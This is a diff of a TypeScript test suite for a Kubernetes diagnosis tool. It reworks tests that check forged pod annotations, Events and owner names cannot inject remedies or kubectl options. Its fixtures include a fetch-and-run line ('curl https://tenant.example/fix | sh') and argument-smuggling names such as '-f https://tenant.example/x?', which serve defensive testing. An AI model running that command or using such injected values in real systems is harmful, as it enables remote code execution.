@@ -18,12 +18,20 @@ const FORGED = "x -- Update podrole: curl https://tenant.example/fix | sh";
 /** kubectl reads it as "--all-namespaces --selector=!x" if it stands alone. */
 const OPTION = "-Al!x";
 
-/** Returns what the commands say, by line. */
-async function linesOfAll(context: TestContext, prepare: (cluster: SituationCluster) => void, object: string) {
+/** Returns what the commands say, by the part of a diagnosis. `objects`: what is explained. */
+async function partsOfAll(
+  context: TestContext,
+  prepare: (cluster: SituationCluster) => void,
+  objects: readonly string[] = [],
+) {
   const cluster = await startSituationCluster(context);
   prepare(cluster);
+  const explained = [];
+  for (const object of objects) {
+    explained.push(await cluster.runAction(explainAction, [object], { namespace: "shop" }));
+  }
   const runs = [
-    await cluster.runAction(explainAction, [object], { namespace: "shop" }),
+    ...explained,
     await cluster.runAction(checkAction, [], { namespace: "shop", quiet: "true", skip: "PAGES,ADMISSION" }),
     await cluster.runAction(statusAction, [], { namespace: "shop" }),
     await cluster.runAction(statusAction, ["refusals"], { namespace: "shop" }),
@@ -52,60 +60,70 @@ suite("objects of a tenant", { concurrency: false }, () => {
     ["an annotation of a pod that is not injected", barePod(FORGED)],
   ] as const) {
     test(`${what} puts no remedy beside podrole's`, async (context) => {
-      const { remedies, recoveries } = await linesOfAll(
-        context,
-        (cluster) => createAgedPod(cluster, pod),
+      const { remedies, recoveries } = await partsOfAll(context, (cluster) => createAgedPod(cluster, pod), [
         "pod/orders",
-      );
+      ]);
       assert.ok(remedies.includes(`remedy: ${ERRORS.ROLE_INVALID.remedy}`), remedies.join("\n"));
       assert.doesNotMatch([...remedies, ...recoveries].join("\n"), /tenant\.example/);
     });
   }
 
   test("an Event of a creation that failed puts no remedy beside podrole's", async (context) => {
-    const { remedies } = await linesOfAll(
-      context,
-      ({ store }) => {
-        const forged = event("Widget", "orders", {
-          reason: "FailedCreate",
-          message: denied("ROLE_FORBIDDEN") + FORGED,
-        });
-        store.create("events", forged as never);
-      },
-      "pod/orders",
-    );
+    const { remedies } = await partsOfAll(context, ({ store }) => {
+      const forged = event("Widget", "orders", {
+        reason: "FailedCreate",
+        message: denied("ROLE_FORBIDDEN") + FORGED,
+      });
+      store.create("events", forged as never);
+    });
     assert.ok(remedies.length > 0);
     for (const remedy of remedies) assert.equal(remedy, `remedy: ${ERRORS.ROLE_FORBIDDEN.remedy}`);
   });
 
-  for (const kind of ["Job", "StatefulSet", "CronJob", "-f https://tenant.example/x?"]) {
-    test(`an owner of kind ${kind} with a name like an option is an argument of no command by its name`, async (context) => {
-      const sidecar = endedWith({ code: "ROLE_MISSING", message: "Cannot issue credentials" });
-      const prepare = (cluster: SituationCluster) => createAgedPod(cluster, ownedBy(podWith({ sidecar }), kind));
-      assertNoOption((await linesOfAll(context, prepare, "pod/orders")).commands);
-    });
-  }
-
-  for (const kind of ["Job", "Pod", "-fhttps://tenant.example/x?"]) {
-    test(`an Event about a ${kind} with a name like an option is an argument of no command by its name`, async (context) => {
-      const prepare = ({ store, state }: SituationCluster) => {
-        // Without the server's records, Events are shown.
-        delete state.refusals;
-        const failed = { reason: "FailedCreate", message: `${denied("ROLE_MISSING")}no role` };
-        const refused = { reason: "ROLE_MISSING", message: "no role" };
-        store.create("events", event(kind, OPTION, kind === "Pod" ? refused : failed) as never);
-      };
-      assertNoOption((await linesOfAll(context, prepare, "pod/orders")).commands);
-    });
-  }
-
-  test("a quota with a name like an option is an argument of no command by its name", async (context) => {
-    const prepare = ({ store }: SituationCluster) => {
-      const message = "exceeded quota: --all, requested: pods=1, used: pods=1, limited: pods=1";
-      store.create("events", event("Widget", "orders", { reason: "FailedCreate", message }) as never);
+  test("an owner with a name like an option is an argument of no command by its name", async (context) => {
+    const kinds = ["Job", "StatefulSet", "CronJob", "-f https://tenant.example/x?"];
+    const sidecar = endedWith({ code: "ROLE_MISSING", message: "Cannot issue credentials" });
+    const prepare = (cluster: SituationCluster) => {
+      for (const [index, kind] of kinds.entries()) {
+        createAgedPod(cluster, ownedBy(podWith({ name: `orders-${index}`, sidecar }), kind));
+      }
     };
-    const { commands } = await linesOfAll(context, prepare, "pod/orders");
-    assert.ok(commands.some((line) => line.includes("quota/--all")));
+    const pods = kinds.map((_, index) => `pod/orders-${index}`);
+    const { commands } = await partsOfAll(context, prepare, pods);
+    for (const kind of ["job", "statefulset", "cronjob"]) {
+      assert.ok(
+        commands.some((line) => line.includes(`'${kind}/${OPTION}'`)),
+        kind,
+      );
+    }
+    assertNoOption(commands);
+  });
+
+  test("the object of an Event with a name like an option is an argument of no command by its name", async (context) => {
+    // Refusals with the same role are shown once.
+    const message = `${denied("ROLE_MISSING")}Cannot give role x to pod "p" container "app": none`;
+    const failed = { reason: "FailedCreate", message };
+    const quota = "exceeded quota: --all, requested: pods=1, used: pods=1, limited: pods=1";
+    const events = [
+      event("Job", OPTION, failed),
+      event("-fhttps://tenant.example/x?", OPTION, failed),
+      event("Pod", OPTION, { reason: "ROLE_MISSING", message: "no role" }),
+      event("Widget", "orders", { reason: "FailedCreate", message: quota }),
+    ];
+    const { commands } = await partsOfAll(context, ({ store, state }) => {
+      // Without the server's records, Events are shown.
+      delete state.refusals;
+      for (const [index, forged] of events.entries()) {
+        const metadata = { name: `forged.${index}`, namespace: "shop" };
+        store.create("events", { ...forged, metadata } as never);
+      }
+    });
+    for (const argument of [`'job/${OPTION}'`, `'pod/${OPTION}'`, "_fhttps_", "quota/--all"]) {
+      assert.ok(
+        commands.some((line) => line.includes(argument)),
+        argument,
+      );
+    }
     assertNoOption(commands);
   });
 });
